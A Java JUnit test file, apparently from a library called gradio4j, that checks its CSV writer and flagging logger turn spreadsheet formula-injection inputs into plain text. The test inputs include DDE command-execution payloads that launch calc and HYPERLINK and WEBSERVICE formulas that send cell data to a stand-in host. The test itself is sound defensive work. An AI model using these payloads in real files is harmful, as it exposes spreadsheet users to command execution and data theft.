package io.gradio4j.war.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.gradio4j.components.dataframe.Csv;
import io.gradio4j.components.flagging.Flag;
import io.gradio4j.components.flagging.SimpleCsvLogger;
import io.gradio4j.components.textbox.Textbox;
import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.regex.Pattern;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Rule 9: what a person writes does not become a formula in the spreadsheet of somebody else. */
class Rule09FormulasTest {

    /** How a cell begins that spreadsheets calculate. */
    private static final Pattern FORMULA = Pattern.compile("[=+@\t\r\n-]");

    @TempDir
    private Path folder;

    private static String onlyField(String csv) throws IOException {
        var lines = Csv.read(new StringReader(csv));
        assertThat(lines).singleElement().satisfies(line -> assertThat(line).hasSize(1));
        return lines.getFirst().getFirst();
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")", "+1+1|cmd", "-1+1|cmd", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "=\"a\",\"b\"", "=1,\n=2", "==1", "--1+A1", "+@1", "=-1", "-A1", "+A1", "@",
        "=", "+", "-", "=WEBSERVICE(\"http://x.example\")", "=IMPORTXML(CONCAT(\"http://x.example\"),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "-1e", "+1.2.3", "-0x10",
        "-1 ", "=\u00001", "=\u200b1"})
    void formulasAreTexts(String formula) throws IOException {
        var line = new StringBuilder();
        Csv.write(line, List.of(formula));
        assertThat(onlyField(line.toString())).doesNotMatch("(?s)" + FORMULA.pattern() + ".*").endsWith(formula.substring(1).replace("\r", ""));

        var logger = new SimpleCsvLogger();
        logger.setUp(List.of(new Textbox("Text")), folder);
        logger.flag(new Flag(List.of(formula), Optional.empty(), Optional.empty()));
        assertThat(onlyField(Files.readString(folder.resolve("log.csv")))).startsWith("'");
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1", "+1", "-1.5", "-1e9", "-.5", "1-1", "a=b", "a@b.example", "", "'", "x\t=1"})
    void numbersAndOtherTextsStayAsTheyAre(String text) throws IOException {
        var line = new StringBuilder();
        Csv.write(line, List.of("x", text));
        assertThat(Csv.read(new StringReader(line.toString())).getFirst()).containsExactly("x", text);
    }
}
